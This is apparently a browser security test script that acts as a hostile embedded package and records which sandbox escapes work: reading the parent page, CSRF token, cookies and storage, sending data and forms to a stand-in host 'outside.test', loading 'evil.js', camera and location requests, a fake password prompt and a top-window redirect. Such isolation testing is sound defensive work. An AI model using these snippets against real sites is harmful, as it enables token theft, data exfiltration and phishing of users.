/* Everything a hostile package tries. Each attack gives what it got, or fails; the answers stand in <pre> as JSON. */
const [SITE, OUTSIDE] = [document.currentScript.dataset.site, "http://outside.test"];
const later = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));
const event = (target, good, bad) => new Promise((done, fail) => { target[`on${good}`] = () => done(good); target[`on${bad}`] = () => fail(new Error(bad)); });
const add = (name, values, holder = document.body) => { const made = Object.assign(document.createElement(name), values); holder.append(made); return made; };

const ATTACKS = {
  "read the page around it": () => top.document.body.innerHTML.length,
  "read its token": () => top.document.querySelector("[name=csrfmiddlewaretoken]").value,
  "read cookies": () => (/marker/.test(document.cookie) ? document.cookie : Promise.reject(new Error("none"))),
  "read storage of the site": () => top.localStorage.getItem("marker"),
  "read storage of the other package": () => localStorage.getItem("marker") ?? Promise.reject(new Error("none")),
  "call the site with its cookies": async () => (await fetch(`${SITE}/en/learning/`, { credentials: "include" })).text(),
  "call the site without looking": () => fetch(`${SITE}/en/learning/?blind`, { credentials: "include", mode: "no-cors" }),
  "load a picture of the site": () => event(add("img", { src: `${SITE}/static/img/eu.svg` }), "load", "error"),
  "send a beacon to the site": async () => { navigator.sendBeacon(`${SITE}/stolen-beacon`, "x"); await later(300); throw new Error("see the requests"); },
  "call outside": () => fetch(`${OUTSIDE}/fetch`, { mode: "no-cors" }),
  "load a script from outside": () => event(add("script", { src: `${OUTSIDE}/evil.js` }), "load", "error"),
  "load a picture from outside": () => event(add("img", { src: `${OUTSIDE}/pixel.svg` }), "load", "error"),
  "open a window": () => window.open(`${SITE}/en/`).closed === false,
  "send a form outside": async () => {
    const form = add("form", { action: `${OUTSIDE}/form`, method: "post", target: add("iframe", { name: "sink" }).name });
    form.submit();
    await later(300);
    throw new Error("see the requests");
  },
  "register a service worker": () => navigator.serviceWorker.register("worker.js"),
  "start a worker": async () => { const worker = new Worker("worker.js"); return event(worker, "message", "error"); },
  "open a connection past the policy": () => new RTCPeerConnection().createDataChannel("x").label.length + 1,
  "see where she is": () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)),
  "open the camera": () => navigator.mediaDevices.getUserMedia({ video: true }),
  "fill the screen": () => document.documentElement.requestFullscreen(),
  "stop her with a dialog": () => { alert("Your password, please"); throw new Error("see the dialogs"); },
};

async function attack() {
  const got = {};
  for (const [name, does] of Object.entries(ATTACKS)) {
    try {
      const loot = await Promise.race([Promise.resolve().then(does), later(2000).then(() => { throw new Error("no answer"); })]);
      got[name] = loot === null || loot === undefined ? "nothing" : `got ${String(loot).slice(0, 30)}`;
    } catch (problem) {
      got[name] = `failed: ${problem.name ?? ""} ${problem.message ?? ""}`.slice(0, 80);
    }
  }
  add("pre", { textContent: JSON.stringify(got) });
  // Last, because where it succeeds nothing is left to tell of the others.
  setTimeout(() => { top.location.href = `${SITE}/en/legal/?stolen`; }, 3000);
}
attack();
